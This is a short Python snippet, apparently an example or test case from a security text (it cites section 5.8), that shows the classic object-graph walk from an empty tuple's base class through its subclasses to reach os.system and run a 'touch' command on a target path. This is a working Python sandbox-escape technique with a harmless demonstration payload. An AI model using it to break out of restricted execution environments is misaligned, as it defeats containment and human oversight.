# The classic object-graph walk to os.system (§5.8).
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        c.__init__.__globals__['system']('touch ' + target)
